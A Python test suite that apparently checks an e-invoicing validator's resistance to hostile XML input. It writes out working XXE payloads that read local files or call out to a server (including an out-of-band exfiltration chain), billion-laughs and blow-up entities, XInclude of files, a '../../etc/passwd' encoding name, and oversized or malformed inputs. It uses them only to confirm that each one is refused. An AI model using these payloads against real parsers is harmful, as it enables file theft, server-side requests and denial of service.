"""Invoices and lifecycle messages without fault, turned hostile: the real rules give a verdict on each.

Every document goes to a judge process with the profile of the French chain; it must be the same process at the end.
"""

from __future__ import annotations

import re

import pytest

from edid.validation.verdict import Outcome
from tests.unit.validation.hostile.conftest import SECRET
from tests.unit.validation.hostile.judge import refused

VALID, INVALID, NOT_JUDGED = Outcome.VALID, Outcome.INVALID, Outcome.NOT_JUDGED
SYNTAXES = ("ubl", "credit note", "cii", "cdar")
LAUGHS = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
DOCTYPES = {
    "an external DTD": '<!DOCTYPE a SYSTEM "{url}/evil.dtd">',
    "a DTD from a file": '<!DOCTYPE a PUBLIC "-//x" "file://{file}">',
    "an entity of a file": '<!DOCTYPE a [<!ENTITY e SYSTEM "file://{file}">]>',
    "an entity of a server": '<!DOCTYPE a [<!ENTITY e SYSTEM "{url}/e">]>',
    "an unparsed entity": '<!DOCTYPE a [<!NOTATION n SYSTEM "{url}/n"><!ENTITY e SYSTEM "{url}/e" NDATA n>]>',
    "a parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}/p"> %p;]>',
    "an entity that builds another": (
        '<!DOCTYPE a [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % m "<!ENTITY &#37; s SYSTEM \'{url}%f;\'>">%m;%s;]>'
    ),
    "billion laughs": f'<!DOCTYPE a [{LAUGHS}<!ENTITY e "&l11;">]>',
    "a parameter billion": '<!DOCTYPE a [<!ENTITY % a "&#37;b;&#37;b;"><!ENTITY % b "&#37;a;"> %a;]>',
    "quadratic blow-up": f'<!DOCTYPE a [<!ENTITY e "{"a" * 50_000}">]>',
    "a default attribute": '<!DOCTYPE a [<!ATTLIST Invoice x CDATA "y">]>',
}


def body(document: bytes) -> str:
    """The document without its XML declaration."""
    return re.sub(r"^<\?xml[^>]*\?>\s*", "", document.decode())


def in_root(document: str, attributes: str) -> str:
    """Write attributes into the root element."""
    return re.sub(r"(<[A-Za-z][\w.:-]*)", rf"\1 {attributes}", document, count=1)


def behind_root(document: str, inner: str) -> str:
    """Put something first into the root element."""
    return re.sub(r"(<[A-Za-z][^>]*>)", lambda match: match[0] + inner, document, count=1)


@pytest.fixture(params=SYNTAXES)
def document(request, sound) -> str:
    return body(sound[request.param])


@pytest.fixture
def judge(hostile_judge, bait):
    """Judge a document by the French chain; then look whether the bait was taken."""

    def _judge(content: bytes | str, profile: str = "fr-ctc"):
        verdict = hostile_judge.survives(content, profile)
        assert SECRET not in repr(verdict)
        assert bait.calls == []
        return verdict

    return _judge


def test_the_documents_are_valid_as_they_are(judge, document):
    for profile in ("fr-ctc", "en16931"):
        verdict = judge(document, profile)
        assert verdict.outcome is VALID
        assert len(verdict.packs) > 1


@pytest.mark.parametrize("name", DOCTYPES)
def test_a_document_type_is_refused_in_every_format(judge, bait, document, name):
    doctype = DOCTYPES[name].replace("{url}", bait.url).replace("{file}", bait.file)
    used = behind_root(document, "&e;") if "ENTITY e" in doctype else document
    refused(judge(doctype + used), "IRR_SYNTAX")


def test_what_points_elsewhere_is_not_followed(judge, bait, document):
    hints = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a {bait.url}/a.xsd '
    hints += f'urn:b file://{bait.file}" xsi:noNamespaceSchemaLocation="{bait.url}/b.xsd"'
    before = f'<?xml-stylesheet type="text/xsl" href="{bait.url}/c.xsl"?><?xml-model href="file://{bait.file}"?>'
    assert judge(before + in_root(document, hints)).outcome is VALID
    based = judge(in_root(document, f'xml:base="{bait.url}/"'))
    assert {finding.rule for finding in based.findings} <= {"XSD"}


@pytest.mark.parametrize("target", ["{url}/x", "file://{file}", "{file}"])
@pytest.mark.parametrize("how", ['parse="text"', 'parse="xml"', 'parse="text" xpointer="/1"'])
def test_an_inclusion_is_an_unknown_element(judge, bait, document, target, how):
    place = target.replace("{url}", bait.url).replace("{file}", bait.file)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{place}" {how}/>'
    verdict = judge(behind_root(document, include))
    assert verdict.outcome is INVALID
    assert "XSD" in {finding.rule for finding in verdict.findings}


@pytest.mark.parametrize("depth", [50, 99, 101, 200, 250])
def test_a_deep_document_is_judged_or_refused(judge, document, depth):
    verdict = judge(behind_root(document, "<a>" * depth + "</a>" * depth))
    assert verdict.outcome is INVALID
    assert "XSD" in {finding.rule for finding in verdict.findings}


@pytest.mark.parametrize("depth", [300, 100_000])
def test_a_document_too_deep_to_be_read_is_refused(judge, document, depth):
    refused(judge(behind_root(document, "<a>" * depth + "</a>" * depth)), "IRR_SYNTAX")


ATTRIBUTES = {
    "a huge value": f'a="{"x" * 3_000_000}"',
    "many references": f'a="{"&lt;" * 300_000}"',
    "many": " ".join(f'a{number}="1"' for number in range(20_000)),
    "many namespaces": " ".join(f'xmlns:n{number}="urn:{number}"' for number in range(10_000)),
    "a huge namespace": f'xmlns:a="{"urn:" * 200_000}"',
    "a huge name": f'{"a" * 40_000}="1"',
    "the namespace of xml": 'xmlns:xml="http://www.w3.org/XML/1998/namespace"',
    "attributes of xml": 'xml:space="preserve" xml:lang="\u202e" xml:id="1"',
}
OUTCOMES = {"many namespaces": NOT_JUDGED, "a huge namespace": NOT_JUDGED, "the namespace of xml": VALID}


@pytest.mark.parametrize("name", ATTRIBUTES)
@pytest.mark.parametrize("syntax", ["ubl", "cii"])
def test_attributes_without_measure_get_a_verdict(judge, sound, syntax, name):
    verdict = judge(in_root(body(sound[syntax]), ATTRIBUTES[name]))
    assert verdict.outcome is OUTCOMES.get(name, INVALID)
    if verdict.outcome is NOT_JUDGED:  # the schema takes them, the parser of the rules does not
        assert [pack.outcome for pack in verdict.packs] == [VALID, NOT_JUDGED, NOT_JUDGED]
        assert "broke off" in verdict.not_judged_because


ENCODINGS = {
    "UTF-8 with its mark": ("utf-8-sig", "UTF-8", VALID),
    "UTF-16": ("utf-16", "UTF-16", VALID),
    "UTF-16 without mark, little end": ("utf-16-le", "UTF-16LE", VALID),
    "UTF-16 without mark, big end": ("utf-16-be", "UTF-16BE", VALID),
    "UTF-16, undeclared": ("utf-16", None, VALID),
    "Latin-9": ("iso-8859-15", "ISO-8859-15", VALID),
    "Windows": ("cp1252", "windows-1252", VALID),
    "UTF-8 called Latin-1": ("utf-8", "ISO-8859-1", None),
    "Latin-1 called UTF-8": ("latin-1", "UTF-8", INVALID),
    "Latin-1, undeclared": ("latin-1", None, INVALID),
    "UTF-8 called UTF-16": ("utf-8", "UTF-16", None),
    "UTF-16 called UTF-8": ("utf-16", "UTF-8", None),
    "UTF-32": ("utf-32", "UTF-32", None),
    "UTF-7": ("utf-7", "UTF-7", None),
    "EBCDIC": ("cp037", "IBM037", None),
    "an unknown one": ("utf-8", "no-such-code", INVALID),
    "a hostile one": ("utf-8", "../../etc/passwd", INVALID),
    "Shift JIS": ("ascii", "Shift_JIS", None),
    "HZ": ("ascii", "HZ-GB-2312", None),
    "ISO-2022": ("ascii", "ISO-2022-KR", None),
}


@pytest.mark.parametrize("name", ENCODINGS)
def test_an_encoding_is_understood_or_refused(judge, document, name):
    codec, declared, outcome = ENCODINGS[name]
    accented = behind_root(document, "<!-- \u00e9 -->") if codec != "ascii" else re.sub(r"[^\x00-\x7f]", "?", document)
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    verdict = judge((declaration + accented).encode(codec, "replace"))
    assert verdict.outcome is outcome or outcome is None
    assert verdict.outcome in {VALID, INVALID}


@pytest.mark.parametrize(
    "damage",
    [
        *(b"\xc0\x80", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xff", b"\xe2\x28\xa1", b"\xf4\x90\x80\x80"),
        *(b"\x00", b"\x0b", b"&#0;", b"&#xD800;", b"&#x110000;", b"&#xFFFF;", b"&#99999999999999999999;"),
        b"\xef\xbf\xbf",
    ],
    ids=repr,
)
def test_signs_that_xml_does_not_know_are_refused(judge, document, damage):
    content = behind_root(document, "<!---->SIGN").encode().replace(b"SIGN", damage)
    refused(judge(content), "IRR_SYNTAX")


@pytest.mark.parametrize("signs", ["\u202e\u2066", "\x85\u2028", "\ufeff", "\x7f\x9b31m", "\U0010fffd", "e\u0301" * 50])
def test_signs_that_fool_the_eye_get_a_verdict(judge, sound, signs):
    for syntax in ("ubl", "cii"):
        for value in ("F-2026-1", "EUR"):
            verdict = judge(body(sound[syntax]).replace(value, value + signs))
            assert verdict.outcome in {VALID, INVALID}


MUCH = {
    "comments": "<!-- a remark -->" * 20_000,
    "instructions": "<?note a remark?>" * 20_000,
    "a long comment": f"<!--{'x' * 9_000_000}-->",
    "a long instruction": f"<?note {'x' * 9_000_000}?>",
    "empty elements": "<a/>" * 5_000,
    "a long text": "x" * 9_000_000,
    "sections": "<![CDATA[x]]>" * 50_000,
    "references": "&#120;" * 200_000,
}


@pytest.mark.parametrize("name", MUCH)
def test_much_of_anything_gets_a_verdict(judge, sound, name):
    for syntax in ("ubl", "cii"):
        verdict = judge(behind_root(body(sound[syntax]), MUCH[name]))
        assert verdict.outcome in {VALID, INVALID}
        if "comment" in name or "instruction" in name:
            assert verdict.outcome is VALID


def with_more_text(document: str, tag: str, more: str) -> str:
    """Make the text of the first element `tag` longer."""
    return re.sub(rf"<{tag}>[^<]*", lambda match: match[0] + more, document, count=1)


def test_a_text_of_100_megabytes_is_refused_for_its_size(judge, sound):
    refused(judge(with_more_text(body(sound["ubl"]), "cbc:Note", "x" * 100_000_000)), "IRR_TAILLE_F")


@pytest.mark.parametrize(("syntax", "tag"), [("ubl", "cbc:Note"), ("cii", "ram:Content")])
def test_a_document_that_is_too_long_for_rules_is_not_judged(judge, sound, syntax, tag):
    verdict = judge(with_more_text(body(sound[syntax]), tag, "-- " * 7_000_000))
    assert verdict.outcome is NOT_JUDGED
    assert "limits.rules_size" in verdict.not_judged_because
    assert [pack.outcome for pack in verdict.packs] == [VALID, NOT_JUDGED, NOT_JUDGED]


@pytest.mark.parametrize(
    "content",
    [
        *(b"", b"\x00", b"<", b"<?xml", b"<?xml version='1.0'?>", b"<a", b"<a/>", b"\xef\xbb\xbf", b"\xff\xfe", b" "),
        *(b"<!DOCTYPE", b"<!--", b"%PDF-1.7", b"PK\x03\x04", b"\x1f\x8b\x08", b"{}", b"<Invoice/>", b"\x00" * 9_999),
        b"<Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'",
        b"<html xmlns='http://www.w3.org/1999/xhtml'><script>x</script></html>",
        b"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' version='3.0'/>",
    ],
    ids=range(21),
)
def test_what_is_no_document_is_refused(judge, content):
    refused(judge(content), "IRR_VIDE_F", "IRR_SYNTAX", "IRR_TYPE_F", "IRR_EXTRAC", "IRR_VIDE", "EDID_PDF")


def test_after_all_that_the_process_judges_as_before(judge, sound):
    verdicts = [judge(sound[syntax]) for syntax in (*SYNTAXES, "factur-x")]
    assert [verdict.outcome for verdict in verdicts] == [VALID] * 5
    assert judge(sound["ubl"].replace(b"EUR", b"FRANC")).outcome is INVALID
